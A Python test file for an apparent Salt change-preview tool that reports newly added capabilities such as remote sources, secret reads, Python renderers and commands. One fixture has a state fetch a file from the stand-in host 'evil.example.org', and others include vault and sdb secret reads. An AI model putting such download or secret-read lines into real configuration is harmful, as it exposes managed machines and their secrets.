"""What a change newly lets the trees do."""

from __future__ import annotations

from controller.preview.capabilities import capabilities
from controller.schema.reports import ChangeClass, ResourceChange
from highstate.files import MemoryFiles

NOTHING = MemoryFiles({"base": {}})


def tree(texts: dict[str, str]) -> MemoryFiles:
    return MemoryFiles({"base": {path: text.encode() for path, text in texts.items()}})


def found(before: dict[str, str], after: dict[str, str]) -> list[tuple[str, str, str]]:
    return [(each.kind, each.text, each.origin) for each in capabilities([(tree(before), tree(after))], [])]


def test_what_a_file_brings_is_named_with_its_place() -> None:
    before = {"a.sls": "x: test.nop\n", "old.sls": "#!py\n"}
    after = {
        "a.sls": "x: test.nop\n# {{ salt['vault.read_secret']('db') }}\ny:\n  file.managed:\n"
        "    - source: https://evil.example.org/x\n",
        "old.sls": "#!py\nchanged = 1\n",
        "b.sls": "#!jinja|py\ndef run(): pass\n",
        "_modules/own.py": "x = 1\n",
    }
    assert sorted(found(before, after)) == [
        ("python", "_modules/own.py", "_modules/own.py"),
        ("remote", "https://evil.example.org", "a.sls:5"),
        ("renderer", "#!py", "b.sls"),
        ("secret", "vault.read_secret", "a.sls:2"),
    ]


def test_what_was_there_before_is_not_new() -> None:
    text = "#!py\n# https://a.example.org sdb.get -----BEGIN PGP MESSAGE\n"
    assert found({"a.sls": text}, {"a.sls": text + "more\n"}) == []


def test_commands_are_those_that_the_change_adds() -> None:
    def resource(action: str, function: str) -> ResourceChange:
        return ResourceChange(action=action, key="k", title=f"x ({function})", function=function, origin="a.sls:1")

    one = ChangeClass(
        id="1",
        minions=("web1",),
        folded="web1",
        resources=(resource("added", "cmd.run"), resource("changed", "cmd.run"), resource("added", "pkg.installed")),
    )
    (told,) = capabilities([(NOTHING, NOTHING)], [one])
    assert (told.kind, told.text, told.origin) == ("command", "x (cmd.run)", "a.sls:1")
